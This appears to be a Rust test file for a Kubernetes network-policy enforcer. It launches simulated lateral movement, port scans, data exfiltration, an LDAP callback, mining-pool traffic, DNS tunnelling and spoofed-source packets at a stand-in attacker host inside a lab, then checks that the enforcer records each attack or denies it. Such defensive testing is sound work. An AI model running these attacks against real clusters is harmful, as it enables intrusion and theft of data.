//! The attacks of `enforcer::lab::attacks` against a lab with the agent (root). In learn
//! mode each gets through, as the attacker sees it, and the agent records it; then, with
//! NetworkPolicies containing the attacker and isolating its target, in monitor mode each
//! is recorded as would-deny, and in enforce mode each times out and is recorded as denied.
//! Spoofed packets are flagged only in monitor and enforce mode: in learn mode the datapath
//! lets them through and records them as an ordinary connection (from the address the pod
//! does not own).
//!
//! Each test's lab has its own name, so they run in parallel with the other lab tests.

use std::{
    collections::BTreeSet,
    net::{IpAddr, SocketAddr},
    time::{Duration, Instant},
};

use enforcer::lab::{
    Lab, ModeTarget, Pod,
    attacks::{self, Outcome, PortState},
};
use model::{Direction, FlowKind, FlowRecord, Mode, Protocol, Reason, Verdict};
use tests::{
    agent::read_records,
    lab::{TestLab, chain},
    require_root,
};

/// The attacker is shop/web; shop/db its lateral target; evil.example.net the attacker's
/// host, serving what a Log4Shell payload, a miner, an exfiltration and a DNS tunnel reach.
const TOPOLOGY: &str = "
namespaces:
  - name: shop
pods:
  - name: shop/web
    labels: {app: web}
    ports: [{port: 8080}]
  - name: shop/db
    labels: {app: db}
    ports: [{port: 5432}, {port: 6379}, {port: 5353, protocol: UDP}]
externals:
  - name: evil.example.net
    addresses: [198.51.100.66, 2001:db8::66]
    ports:
      - {port: 389}
      - {port: 3333}
      - {port: 443}
      - {port: 53, protocol: UDP}
      - {port: 9999, protocol: UDP}
";

/// web may send UDP 9999 to the attacker's host and nothing else; nobody may reach db.
/// Spoofed packets to that very port are dropped all the same.
const CONTAINMENT: &str = "
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: contain-web, namespace: shop}
spec:
  podSelector: {matchLabels: {app: web}}
  policyTypes: [Egress]
  egress:
  - to: [{ipBlock: {cidr: 198.51.100.66/32}}]
    ports: [{port: 9999, protocol: UDP}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: isolate-db, namespace: shop}
spec:
  podSelector: {matchLabels: {app: db}}
  policyTypes: [Ingress]
";

const WEB: &str = "shop/web";
const DB: &str = "shop/db";
const EVIL4: &str = "198.51.100.66";
const EVIL6: &str = "2001:db8::66";
const TUNNEL_DOMAIN: &str = "t.evil.example.net";
const DNS_QUERIES: usize = 24;
const EXFIL_BYTES: usize = 1 << 20;
const UDP_DATAGRAMS: usize = 20;
const SCAN_TIMEOUT: Duration = Duration::from_millis(300);
/// How long the agent gets to write the records of what just happened.
const RECORDS_TIMEOUT: Duration = Duration::from_secs(10);

fn evil4() -> IpAddr {
    EVIL4.parse().unwrap()
}
fn evil6() -> IpAddr {
    EVIL6.parse().unwrap()
}

/// Ports scanned on db: 5420..=5440 (5432 serves) and 6379 (serves).
fn scanned_ports() -> Vec<u16> {
    (5420..=5440).chain([6379]).collect()
}

/// What each attack saw, in one run.
struct Seen {
    lateral4: Outcome,
    lateral6: Outcome,
    scan: attacks::Scan,
    exfil_tcp: Outcome,
    exfil_udp: Outcome,
    ldap: Outcome,
    mining: Outcome,
    dns: Outcome,
    spoofed4: Outcome,
    spoofed6: Outcome,
}

impl Seen {
    fn outcomes(&self) -> [&Outcome; 10] {
        [
            &self.lateral4,
            &self.lateral6,
            &self.scan.outcome,
            &self.exfil_tcp,
            &self.exfil_udp,
            &self.ldap,
            &self.mining,
            &self.dns,
            &self.spoofed4,
            &self.spoofed6,
        ]
    }
}

fn ok<T>(what: &str, r: enforcer::lab::Result<T>) -> T {
    r.unwrap_or_else(|e| panic!("{what}: {}", chain(&e)))
}

fn attack_all(lab: &Lab) -> Seen {
    let db = lab.pod(DB).unwrap().clone();
    let started = Instant::now();
    let scan = ok(
        "scan",
        attacks::port_scan(lab, WEB, db.ipv4.into(), scanned_ports(), SCAN_TIMEOUT),
    );
    // 22 ports, 16 at a time: two rounds of timeouts at worst.
    assert!(
        started.elapsed() < SCAN_TIMEOUT * 4,
        "the scan took {:?}",
        started.elapsed()
    );
    Seen {
        lateral4: ok("lateral", attacks::lateral(lab, WEB, db.ipv4.into(), 5432)),
        lateral6: ok("lateral", attacks::lateral(lab, WEB, db.ipv6.into(), 6379)),
        scan,
        exfil_tcp: ok(
            "exfiltrate_tcp",
            attacks::exfiltrate_tcp(lab, WEB, SocketAddr::new(evil4(), 443), EXFIL_BYTES),
        ),
        exfil_udp: ok(
            "exfiltrate_udp",
            attacks::exfiltrate_udp(
                lab,
                WEB,
                SocketAddr::new(db.ipv4.into(), 5353),
                UDP_DATAGRAMS,
                1000,
            ),
        ),
        ldap: ok("ldap_callback", attacks::ldap_callback(lab, WEB, evil4())),
        mining: ok(
            "mining_pool",
            attacks::mining_pool(lab, WEB, evil6(), attacks::STRATUM_PORT),
        ),
        dns: ok(
            "dns_tunnel",
            attacks::dns_tunnel(
                lab,
                WEB,
                SocketAddr::new(evil4(), 53),
                TUNNEL_DOMAIN,
                DNS_QUERIES,
            ),
        ),
        spoofed4: ok(
            "spoofed",
            attacks::spoofed(lab, WEB, db.ipv4.into(), SocketAddr::new(evil4(), 9999)),
        ),
        spoofed6: ok(
            "spoofed",
            attacks::spoofed(lab, WEB, db.ipv6.into(), SocketAddr::new(evil6(), 9999)),
        ),
    }
}

/// A new-connection record of `pod`'s endpoint in `mode`.
fn new_on<'a>(records: &'a [FlowRecord], pod: &Pod, mode: Mode) -> Vec<&'a FlowRecord> {
    records
        .iter()
        // An attempt that reuses an earlier phase's 5-tuple (a random source port of a UDP
        // query, say) finds that connection and is re-judged instead of new.
        .filter(|r| {
            matches!(r.kind, FlowKind::New | FlowKind::Rejudged)
                && r.interface == pod.host_interface
                && r.mode == mode
        })
        .collect()
}

/// One expectation about the records: what it is, and whether the records meet it.
type Check<'a> = (String, Box<dyn Fn(&[FlowRecord]) -> bool + 'a>);

/// Poll the lab's flow records until every check holds (bounded); fail naming those that
/// do not, with the records of the mode.
fn wait_for_records(lab: &Lab, mode: Mode, checks: &[Check<'_>]) {
    let deadline = Instant::now() + RECORDS_TIMEOUT;
    loop {
        let records = read_records(&lab.flows_file());
        let missing: Vec<&str> = checks
            .iter()
            .filter(|(_, check)| !check(&records))
            .map(|(what, _)| what.as_str())
            .collect();
        if missing.is_empty() {
            return;
        }
        if Instant::now() > deadline {
            let dump: Vec<String> = records
                .iter()
                .filter(|r| r.mode == mode && matches!(r.kind, FlowKind::New | FlowKind::Rejudged))
                .map(|r| serde_json::to_string(r).unwrap())
                .collect();
            panic!(
                "records missing after {RECORDS_TIMEOUT:?}:\n  {}\n{mode:?} records:\n{}",
                missing.join("\n  "),
                dump.join("\n")
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The records every run leaves, with the verdict and reason expected of each; spoofed
/// packets have their own (`spoofed_verdict`, `spoofed_reason`).
fn attack_checks<'a>(
    web: &'a Pod,
    db: &'a Pod,
    mode: Mode,
    verdict: Verdict,
    reason: Reason,
    spoofed: (Verdict, Reason),
) -> Vec<Check<'a>> {
    let egress =
        move |records: &[FlowRecord], protocol: Protocol, to: SocketAddr, count: usize| -> bool {
            let matching: BTreeSet<u16> = new_on(records, web, mode)
                .into_iter()
                .filter(|r| {
                    r.direction == Direction::Egress
                        && r.protocol == protocol
                        && r.remote.ip == to.ip()
                        && r.remote.port == to.port()
                        && r.local.ip != to.ip()
                        && web.addresses().contains(&r.local.ip)
                        && r.verdict == verdict
                        && r.reason == Some(reason)
                })
                .map(|r| r.local.port)
                .collect();
            matching.len() >= count
        };
    let mut checks: Vec<Check<'a>> = Vec::new();
    let mut expect = |what: String, protocol, to: SocketAddr, count| {
        checks.push((
            format!("{what}: {count} x {protocol} {to}, {verdict:?} ({reason:?})"),
            Box::new(move |rs: &[FlowRecord]| egress(rs, protocol, to, count)),
        ));
    };
    let db4 = IpAddr::from(db.ipv4);
    let db6 = IpAddr::from(db.ipv6);
    expect(
        "lateral".into(),
        Protocol::Tcp,
        SocketAddr::new(db4, 5432),
        1,
    );
    expect(
        "lateral".into(),
        Protocol::Tcp,
        SocketAddr::new(db6, 6379),
        1,
    );
    for port in scanned_ports() {
        expect("scan".into(), Protocol::Tcp, SocketAddr::new(db4, port), 1);
    }
    expect(
        "exfiltrate".into(),
        Protocol::Tcp,
        SocketAddr::new(evil4(), 443),
        1,
    );
    expect(
        "exfiltrate".into(),
        Protocol::Udp,
        SocketAddr::new(db4, 5353),
        1,
    );
    expect(
        "ldap".into(),
        Protocol::Tcp,
        SocketAddr::new(evil4(), 389),
        1,
    );
    expect(
        "mining".into(),
        Protocol::Tcp,
        SocketAddr::new(evil6(), 3333),
        1,
    );
    // A new socket per query: a new connection each.
    expect(
        "dns tunnel".into(),
        Protocol::Udp,
        SocketAddr::new(evil4(), 53),
        DNS_QUERIES,
    );
    for (source, target) in [(db4, evil4()), (db6, evil6())] {
        let (verdict, reason) = spoofed;
        checks.push((
            format!("spoofed: UDP from {source} to {target}:9999 on web, {verdict:?} ({reason:?})"),
            Box::new(move |rs: &[FlowRecord]| {
                new_on(rs, web, mode).iter().any(|r| {
                    r.direction == Direction::Egress
                        && r.protocol == Protocol::Udp
                        && r.local.ip == source
                        && r.remote.ip == target
                        && r.remote.port == 9999
                        && r.verdict == verdict
                        && r.reason == Some(reason)
                })
            }),
        ));
    }
    checks
}

/// Learn mode lets everything through, and records it; then, with policies containing web
/// (but for UDP 9999 to the attacker's host) and isolating db, monitor mode records every
/// attack as would-deny and enforce mode drops every attack, spoofed packets to the allowed
/// port included, and records each as denied.
#[test]
fn attacks_pass_in_learn_are_flagged_in_monitor_and_denied_in_enforce() {
    require_root!();
    let mut lab = TestLab::up_with(TOPOLOGY, |o| {
        o.agent = true;
        o.mode = Mode::Learn;
    });
    let web = lab.pod(WEB).unwrap().clone();
    let db = lab.pod(DB).unwrap().clone();

    // ---- learn -----------------------------------------------------------------------
    let seen = attack_all(&lab);
    for outcome in seen.outcomes() {
        eprintln!("learn: {outcome}");
    }
    for outcome in [
        &seen.lateral4,
        &seen.lateral6,
        &seen.exfil_tcp,
        &seen.exfil_udp,
        &seen.ldap,
        &seen.mining,
        &seen.dns,
    ] {
        assert!(outcome.attempts > 0, "{outcome}");
        assert_eq!(outcome.succeeded, outcome.attempts, "{outcome}");
    }
    assert_eq!(seen.scan.open(), [5432, 6379], "{}", seen.scan.outcome);
    assert!(
        seen.scan
            .ports
            .iter()
            .all(|p| p.state == PortState::Open || p.state == PortState::Refused),
        "{:?}",
        seen.scan.ports
    );
    assert_eq!(seen.exfil_tcp.bytes_received, EXFIL_BYTES as u64);
    assert_eq!(seen.dns.attempts, DNS_QUERIES);
    // The spoofed datagrams reach the attacker's host, whose echoes go to db, which owns
    // the address: the reflection works when nothing checks sources. (A strict IPv4
    // rp_filter in the node, inherited from the machine, drops them: then only IPv6 does.)
    for spoofed in [&seen.spoofed4, &seen.spoofed6] {
        assert_eq!(spoofed.attempts, attacks::SPOOFED_PACKETS, "{spoofed}");
        assert_eq!(spoofed.failed, 0, "{spoofed}");
        assert!(
            spoofed.detail.contains("cannot see the echoes"),
            "{spoofed}"
        );
    }
    assert_eq!(
        seen.spoofed6.succeeded,
        attacks::SPOOFED_PACKETS,
        "{}",
        seen.spoofed6
    );
    if !strict_rp_filter(&lab) {
        assert_eq!(
            seen.spoofed4.succeeded,
            attacks::SPOOFED_PACKETS,
            "{}",
            seen.spoofed4
        );
    }
    wait_for_records(
        &lab,
        Mode::Learn,
        &attack_checks(
            &web,
            &db,
            Mode::Learn,
            Verdict::Allow,
            Reason::Learn,
            // Learn mode only counts spoofing: the connection is allowed like any other.
            (Verdict::Allow, Reason::Learn),
        ),
    );
    // db's side of the lateral movement, and of the reflection.
    wait_for_records(
        &lab,
        Mode::Learn,
        &[(
            "db: ingress from web to 5432, and the reflected echo from evil:9999".into(),
            Box::new(|rs: &[FlowRecord]| {
                let on_db = new_on(rs, &db, Mode::Learn);
                on_db.iter().any(|r| {
                    r.direction == Direction::Ingress
                        && r.local.port == 5432
                        && r.remote.ip == IpAddr::from(web.ipv4)
                }) && on_db.iter().any(|r| {
                    r.direction == Direction::Ingress
                        && r.remote.ip == evil6()
                        && r.remote.port == 9999
                })
            }),
        )],
    );

    // ---- monitor ----------------------------------------------------------------------
    let applied = ok(
        "apply",
        lab.apply_policy_text(CONTAINMENT, std::path::Path::new("containment.yaml")),
    );
    assert!(
        applied.agent.as_ref().is_some_and(|a| a.is_applied()),
        "{applied:?}"
    );
    ok("mode", lab.set_mode(Mode::Monitor, &ModeTarget::All));
    let seen = attack_all(&lab);
    for outcome in seen.outcomes() {
        eprintln!("monitor: {outcome}");
    }
    // Monitoring drops nothing, spoofed packets included (recorded as would-deny): their
    // echoes reach the address's owner as in learn mode (IPv6 always; IPv4 unless the
    // node's rp_filter is strict).
    for outcome in [
        &seen.lateral4,
        &seen.lateral6,
        &seen.exfil_tcp,
        &seen.exfil_udp,
        &seen.ldap,
        &seen.mining,
        &seen.dns,
        &seen.spoofed6,
    ] {
        assert_eq!(outcome.succeeded, outcome.attempts, "{outcome}");
    }
    if !strict_rp_filter(&lab) {
        assert_eq!(
            seen.spoofed4.succeeded, seen.spoofed4.attempts,
            "{}",
            seen.spoofed4
        );
    }
    assert_eq!(seen.scan.open(), [5432, 6379], "{}", seen.scan.outcome);
    wait_for_records(
        &lab,
        Mode::Monitor,
        &attack_checks(
            &web,
            &db,
            Mode::Monitor,
            Verdict::WouldDeny,
            Reason::NoRule,
            (Verdict::WouldDeny, Reason::Spoofed),
        ),
    );

    // ---- enforce -----------------------------------------------------------------------
    ok("mode", lab.set_mode(Mode::Enforce, &ModeTarget::All));

    let seen = attack_all(&lab);
    for outcome in seen.outcomes() {
        eprintln!("enforce: {outcome}");
        // Dropped without a word: timeouts, never refusals.
        assert_eq!(outcome.succeeded, 0, "{outcome}");
        assert_eq!(outcome.timed_out, outcome.attempts, "{outcome}");
        assert!(outcome.blocked());
    }
    assert!(
        seen.scan
            .ports
            .iter()
            .all(|p| p.state == PortState::Filtered),
        "{:?}",
        seen.scan.ports
    );
    assert_eq!(seen.exfil_tcp.bytes_sent, 0);
    // What the policy allows still works: the drops are the policy's, not a broken lab.
    let allowed = ok(
        "exfiltrate_udp",
        attacks::exfiltrate_udp(&lab, WEB, SocketAddr::new(evil4(), 9999), 5, 100),
    );
    assert_eq!(allowed.succeeded, 5, "{allowed}");

    let mut checks = attack_checks(
        &web,
        &db,
        Mode::Enforce,
        Verdict::Deny,
        Reason::NoRule,
        (Verdict::Deny, Reason::Spoofed),
    );
    let web4 = IpAddr::from(web.ipv4);
    let web_ref = &web;
    checks.push((
        "the allowed UDP 9999 from web's own address".into(),
        Box::new(move |rs: &[FlowRecord]| {
            new_on(rs, web_ref, Mode::Enforce).iter().any(|r| {
                r.local.ip == web4
                    && r.remote.ip == evil4()
                    && r.remote.port == 9999
                    && r.verdict == Verdict::Allow
                    && r.reason == Some(Reason::Rule)
            })
        }),
    ));
    wait_for_records(&lab, Mode::Enforce, &checks);
    // Nothing got as far as db.
    let records = read_records(&lab.flows_file());
    let reached_db: Vec<&FlowRecord> = new_on(&records, &db, Mode::Enforce)
        .into_iter()
        .filter(|r| r.direction == Direction::Ingress && r.verdict != Verdict::Deny)
        .collect();
    assert!(reached_db.is_empty(), "{reached_db:?}");
}

/// Attacks go to the lab only, spoofed sources keep their echoes in it, and a pod is not
/// its own target; sizes are bounded.
#[test]
fn attacks_refuse_targets_outside_the_lab() {
    require_root!();
    let lab = TestLab::up(TOPOLOGY);
    let web = lab.pod(WEB).unwrap().clone();
    let outside: IpAddr = "192.0.2.1".parse().unwrap();
    let refused = |r: enforcer::lab::Result<Outcome>, why: &str| {
        let e = r.expect_err(why);
        assert!(
            matches!(e, enforcer::lab::Error::Attack { .. }),
            "{why}: {}",
            chain(&e)
        );
    };
    refused(attacks::lateral(&lab, WEB, outside, 80), "outside");
    refused(
        attacks::ldap_callback(&lab, WEB, "10.0.0.1".parse().unwrap()),
        "outside",
    );
    refused(
        attacks::lateral(&lab, WEB, web.ipv4.into(), 8080),
        "its own address",
    );
    refused(
        attacks::spoofed(&lab, WEB, outside, SocketAddr::new(evil4(), 9999)),
        "echoes would leave the lab",
    );
    refused(
        attacks::spoofed(&lab, WEB, web.ipv4.into(), SocketAddr::new(evil4(), 9999)),
        "not spoofed",
    );
    refused(
        attacks::spoofed(
            &lab,
            WEB,
            "fe80::1".parse().unwrap(),
            SocketAddr::new(evil6(), 9999),
        ),
        "link-local counts as the pod's own",
    );
    refused(
        attacks::spoofed(&lab, WEB, web.ipv6.into(), SocketAddr::new(evil4(), 9999)),
        "families differ",
    );
    refused(
        attacks::dns_tunnel(&lab, WEB, SocketAddr::new(evil4(), 53), &"a".repeat(250), 1),
        "too long a domain",
    );
    refused(
        attacks::exfiltrate_udp(&lab, WEB, SocketAddr::new(evil4(), 9999), 1, 4),
        "datagrams too small to number",
    );
    assert!(matches!(
        attacks::lateral(&lab, "shop/nobody", evil4(), 443),
        Err(enforcer::lab::Error::Unknown { .. })
    ));
    assert!(matches!(
        attacks::port_scan(&lab, WEB, outside, [80], SCAN_TIMEOUT),
        Err(enforcer::lab::Error::Attack { .. })
    ));
}

/// Does the node namespace check IPv4 sources strictly (`rp_filter` 1: the source must be
/// routed back through the interface it came in on)? The kernel uses the larger of `all`
/// and the interface's value. Read from inside the node's namespace.
fn strict_rp_filter(lab: &Lab) -> bool {
    let web = lab.pod(WEB).unwrap().host_interface.clone();
    let value = enforcer::netns::run_in(&lab.node_netns(), || {
        ["all".to_owned(), web]
            .iter()
            .map(|i| {
                std::fs::read_to_string(format!("/proc/sys/net/ipv4/conf/{i}/rp_filter"))
                    .ok()
                    .and_then(|v| v.trim().parse::<u8>().ok())
                    .unwrap_or(1)
            })
            .max()
            .unwrap_or(1)
    })
    .unwrap();
    value == 1
}
